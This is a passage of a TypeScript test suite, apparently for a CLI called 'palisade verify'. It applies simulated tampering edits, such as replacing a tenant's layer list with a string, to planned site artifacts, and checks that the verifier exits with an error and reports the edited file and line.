    add(M, `${f} whose first tenant's layers is not a list`, f, (d) => editJson(d, f, (j) => { j.tenants[0].layers = "all"; }), new RegExp(`bad-artifact .*${esc(f)}: tenant #1 .*layers is not a list`), '"tenant": ');
  } else skip(M, "no tenants.json: its two mutations");
  return { table: out, skipped };
}

/**
 * The mutations of `classes` on every example and one generated platform, each site planned once:
 * `palisade verify` must exit 1, print no stack trace, and report a finding of the mutation that
 * names its artifact and a line holding the edit.
 */
export async function describeDaemonMutations(classes: readonly MutationClass[], generatedSeed = 1): Promise<void> {
  const sites: { name: string; dir: string; mutations: DaemonMutation[]; skipped: string }[] = [];
  for (const s of [...siteFiles(), generatedSiteFile(generatedSeed)]) {
    const dir = await planSite(s.file);
    const first = sites.length === 0;
    const { table, skipped } = daemonMutations(artifactTargets(dir, s.file));
    sites.push({ name: s.name, dir, mutations: table.filter((m) => classes.includes(m.cls) && (first || !m.platform)), skipped: skipped.filter((x) => classes.includes(x.cls)).map((x) => x.what).join("; ") || "none" });
  }

  describe.each(sites)("an attacker's edits of $name's daemon and engine artifacts (left out for want of a target: $skipped)", ({ dir: planned, mutations }) => {
    const baseline = problemLines(plannedReport(planned));

    it("GIVEN the good plan WHEN verified THEN nothing is found (so each mutation's finding is its own)", () => {
      expect(baseline).toEqual([]);
    });

    it.each(mutations.map((m) => [`${m.cls}: ${m.name}`, m] as const))("GIVEN %s WHEN palisade verify runs THEN it exits 1 with a finding naming the artifact and the line", async (_n, m) => {
      const dir = copyOut(planned, "mut-daemons");
      m.mutate(dir);
      const cli = await verifyCli(dir);
      expect(cli.stderr).not.toMatch(/internal error|\n\s+at /);
      expect(cli.code, cli.stdout).toBe(1);
      // The report the CLI wrote is the evidence: read it rather than verify twice.
      const all = locatedProblems(cli.report);
      const found = all.filter((f) => m.expected.test(f.line));
      expect(found.length, `expected ${m.expected} among:\n${all.map((f) => `${f.artifact}:${f.at} ${f.line}`).join("\n")}`).toBeGreaterThan(0);
      const text = readFileSync(join(dir, m.artifact), "utf8").split("\n");
      const named = found.filter((f) => f.artifact === m.artifact && f.at !== undefined && f.at > 0 && (m.marker === "" || (text[f.at - 1] ?? "").includes(m.marker)));
      expect(named.length, `a finding must name ${m.artifact} and a line holding ${JSON.stringify(m.marker)}; got ${found.map((f) => `${f.artifact}:${f.at} (${JSON.stringify(text[(f.at ?? 0) - 1])})`).join(", ")}`).toBeGreaterThan(0);
    });

    it.each(classes)("GIVEN class %s WHEN this site's table is counted THEN it has at least three mutations aimed at its own artifacts", (cls) => {
      expect(mutations.filter((m) => m.cls === cls && !m.platform).length).toBeGreaterThanOrEqual(3);
    });
  });

  it(`GIVEN every site WHEN the mutations are counted THEN each class ran on all ${sites.length} sites`, () => {
    for (const cls of classes) expect(sites.filter((s) => s.mutations.some((m) => m.cls === cls)).length, cls).toBe(sites.length);
  });
}
